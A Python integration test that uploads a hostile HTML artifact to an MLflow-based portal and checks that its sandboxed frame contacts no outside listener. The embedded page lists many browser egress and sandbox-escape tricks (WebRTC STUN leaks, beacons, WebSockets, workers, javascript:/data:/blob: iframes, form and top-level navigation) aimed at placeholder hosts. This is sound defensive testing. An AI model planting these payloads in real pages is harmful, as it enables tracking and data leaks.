"""A hostile page among artifacts runs its scripts in its frame, and reaches nobody outside."""

import socket
import threading
from collections.abc import Iterator
from contextlib import suppress
from html import escape

import httpx
import pytest
from playwright.sync_api import Browser

from tests.integration.browser.conftest import PATIENCE_MS, Window, address_of
from tests.portals import RunningPortal

pytestmark = pytest.mark.browser

_RTC = """
function stun() {
  const peer = new RTCPeerConnection({iceServers: [{urls: "stun:127.0.0.1:UDP"}]});
  peer.createDataChannel("x");
  peer.createOffer().then((offer) => peer.setLocalDescription(offer));
}
"""
# Each in its own way asks the listener, by TCP or by UDP.
_STATIC = """<!doctype html><html><head>
<link rel=preconnect href="WEB/preconnect"><link rel=prefetch href="WEB/prefetch">
<link rel=preload as=script href="WEB/preload"><link rel=modulepreload href="WEB/modulepreload">
<link rel=stylesheet href="WEB/css"><link rel=icon href="WEB/icon">
<link rel=prerender href="WEB/prerender"><link rel=manifest href="WEB/manifest">
<script type=speculationrules>{"prefetch": [{"urls": ["WEB/speculation"]}],
  "prerender": [{"urls": ["WEB/prerendered"]}]}</script>
<style>@import "WEB/import"; @font-face { font-family: x; src: url(WEB/font) }
  body { font-family: x; background: url(WEB/background); cursor: url(WEB/cursor), auto }</style>
</head><body background="WEB/body">here
<img src="WEB/img" srcset="WEB/srcset 2x"><video src="WEB/video" poster="WEB/poster"></video>
<audio src="WEB/audio"></audio><object data="WEB/object"></object><embed src="WEB/embed">
<iframe src="WEB/frame"></iframe><svg><image href="WEB/svg" /><use href="WEB/use#x" /></svg>
<script src="WEB/script"></script><script type=module src="WEB/module"></script>
<script type=module>document.title += " MODULE"; STUN stun()</script>
<svg><script>document.title += " SVG"; STUN stun()</script></svg>
<img src=x onerror="document.title += ' HANDLER'; STUN stun()">
<iframe srcdoc="QUOTED"></iframe>
<div><template shadowrootmode=closed><iframe srcdoc="QUOTED"></iframe></template></div>
"""
_SCRIPT = """
document.title = "scripts run";
const seen = [];
const attempt = (name, act) => { try { act(); } catch (error) { seen.push(name); } };
attempt("rtc", stun);
attempt("function", () => Function("return this")().webkitRTCPeerConnection.name);
attempt("blank", () => {
  const frame = document.createElement("iframe");
  document.body.append(frame);
  const Peer = frame.contentWindow.RTCPeerConnection;
  new Peer({iceServers: [{urls: "stun:127.0.0.1:UDP"}]}).createDataChannel("x");
});
attempt("written", () => {
  const frame = document.createElement("iframe");
  document.body.append(frame);
  frame.contentDocument.write("<script>STUN stun()<\\/script>");
});
for (const address of ["javascript:STUN stun()", "data:text/html,<script>STUN stun()<\\/script>",
  URL.createObjectURL(new Blob(["<script>STUN stun()<\\/script>"], {type: "text/html"}))]) {
  const frame = document.createElement("iframe");
  frame.src = address.replaceAll("\\n", " ");
  document.body.append(frame);
}
for (const source of [...document.scripts].map((it) => it.outerHTML)) {
  const frame = document.createElement("iframe");
  frame.srcdoc = source;  // a script that may run here may run there, too
  document.body.append(frame);
}
attempt("inline", () => {
  const script = document.createElement("script");
  script.text = "document.title += ' INLINE'; STUN stun()";
  document.body.append(script);
});
attempt("worker", () => new Worker(URL.createObjectURL(new Blob(["fetch('WEB/worker')"]))));
attempt("shared", () => new SharedWorker("data:text/javascript,fetch('WEB/shared')"));
fetch("WEB/fetch", {mode: "no-cors"}).catch(() => seen.push("fetch"));
attempt("beacon", () => navigator.sendBeacon("WEB/beacon", "x"));
attempt("socket", () => new WebSocket("WEB/socket".replace("http", "ws")));
attempt("events", () => new EventSource("WEB/events"));
attempt("transport", () => new WebTransport("WEB/transport".replace("http", "https")));
attempt("xhr", () => { const ask = new XMLHttpRequest(); ask.open("GET", "WEB/xhr"); ask.send(); });
attempt("image", () => { new Image().src = "WEB/image"; });
attempt("open", () => open("WEB/open"));
attempt("import", () => import("WEB/dynamic").catch(() => 0));
function lead(target) {
  attempt(`link ${target}`, () => {
    const link = Object.assign(document.createElement("a"),
      {href: `WEB/link${target}`, ping: "WEB/ping", target});
    document.body.append(link);
    link.click();
  });
  for (const method of ["get", "post"]) attempt(`form ${target}`, () => {
    const form = Object.assign(document.createElement("form"),
      {action: `WEB/form${target}`, method, target});
    document.body.append(form);
    form.submit();
  });
}
for (const target of ["_blank", "_top", "_parent"]) lead(target);
attempt("top", () => { top.location = "WEB/top"; });
setTimeout(() => {
  document.body.append(Object.assign(document.createElement("meta"),
    {httpEquiv: "refresh", content: "0;url=WEB/refresh"}));
  console.log(`${document.title}: ${seen.join(" ")}`);
}, 1500);
setTimeout(() => { lead("_self"); location = "WEB/location"; }, 3000);
"""


class Outside:
    """Loopback listeners that stand for the rest of the world, and who came to them."""

    def __init__(self) -> None:
        self.tcp = socket.create_server(("127.0.0.1", 0), backlog=100)
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.visits: list[str] = []
        for listen in (self._listen_tcp, self._listen_udp):
            threading.Thread(target=listen, daemon=True).start()

    @property
    def web(self) -> str:
        """The address of the listener for TCP."""
        return f"http://127.0.0.1:{self.tcp.getsockname()[1]}"

    def fill(self, text: str) -> str:
        """Put the addresses and the scripts for WebRTC into a page."""
        port = str(self.udp.getsockname()[1])
        text = text.replace("STUN", _RTC.replace("\n", " ").replace('"', "`"))
        quoted = escape(f"<script>{_RTC} stun()</script>")
        return text.replace("QUOTED", quoted).replace("UDP", port).replace("WEB", self.web)

    def close(self) -> None:
        """Listen no more."""
        self.tcp.close()
        self.udp.close()

    def _listen_tcp(self) -> None:
        with suppress(OSError):
            while True:
                connection, _ = self.tcp.accept()
                connection.settimeout(1)
                with connection, suppress(OSError):
                    self.visits.append(f"tcp {connection.recv(200)!r}")

    def _listen_udp(self) -> None:
        with suppress(OSError):
            while True:
                self.visits.append(f"udp {self.udp.recv(200)[:20]!r}")


@pytest.fixture
def outside() -> Iterator[Outside]:
    """Listeners for one test."""
    made = Outside()
    yield made
    made.close()


def _artifact(running: RunningPortal, project: str, name: str, content: str) -> str:
    """Log a file to a fresh run; returns the run's id."""
    at = f"{running.url}/mlflow/{project}/api/2.0"
    headers = {"Authorization": f"Bearer {running.tokens['alice']}"}
    with httpx.Client(headers=headers, timeout=60) as client:
        body = {"experiment_id": "0", "run_name": "hostile", "start_time": 1}
        made = client.post(f"{at}/mlflow/runs/create", json=body)
        made.raise_for_status()
        info = made.json()["run"]["info"]
        place = info["artifact_uri"].removeprefix("mlflow-artifacts:/")
        put = client.put(
            f"{at}/mlflow-artifacts/artifacts/{place}/{name}", content=content.encode()
        )
        put.raise_for_status()
    return str(info["run_id"])


def test_a_hostile_page_in_its_frame_reaches_nobody(
    portal: RunningPortal, chromium: Browser, project: str, outside: Outside
) -> None:
    page = outside.fill(f"{_STATIC}<script>{_RTC}{_SCRIPT}</script><p>end</p>")
    run_id = _artifact(portal, project, "report.html", page)
    context = chromium.new_context()
    window = Window(context.new_page(), address_of(portal))
    window.go("/account/login").sign_in("alice").is_at("/")
    window.go(f"/p/{project}/runs/{run_id}?path=report.html")

    with window.page.expect_console_message(
        lambda message: message.text.startswith("scripts run"), timeout=PATIENCE_MS
    ) as console:
        window.page.reload()
    title, _, refused = console.value.text.partition(":")
    assert title == "scripts run"
    assert {"rtc", "function", "blank", "written"} <= set(refused.split())
    window.page.wait_for_timeout(5000)
    assert outside.visits == []
    assert window.page.url.startswith(address_of(portal))
    assert len(context.pages) == 1
    context.close()


def test_a_page_in_a_tab_of_its_own_has_no_scripts(
    portal: RunningPortal, chromium: Browser, project: str, outside: Outside
) -> None:
    page = outside.fill(
        "<title>still</title><meta http-equiv=refresh content='0;url=WEB/refresh'>"
        f"<script>document.title = 'ran'; {_RTC} stun(); location = 'WEB/self'</script>here"
    )
    run_id = _artifact(portal, project, "report.html", page)
    context = chromium.new_context()
    window = Window(context.new_page(), address_of(portal))
    window.go("/account/login").sign_in("alice").is_at("/")
    window.go(f"/p/{project}/runs/{run_id}?path=report.html")
    link = window.page.locator("iframe.artifact-page").get_attribute("src")
    assert link is not None
    window.page.goto(address_of(portal) + link)
    window.page.wait_for_timeout(2000)
    assert window.page.title() == "still"
    assert outside.visits == []
    context.close()


def test_the_listeners_would_hear_a_page_without_the_guard(
    chromium: Browser, outside: Outside
) -> None:
    context = chromium.new_context()
    page = context.new_page()
    page.set_content(outside.fill(f"<script>{_RTC} stun()</script><img src='WEB/img'>"))
    page.wait_for_timeout(3000)
    context.close()
    assert {visit.split()[0] for visit in outside.visits} == {"tcp", "udp"}
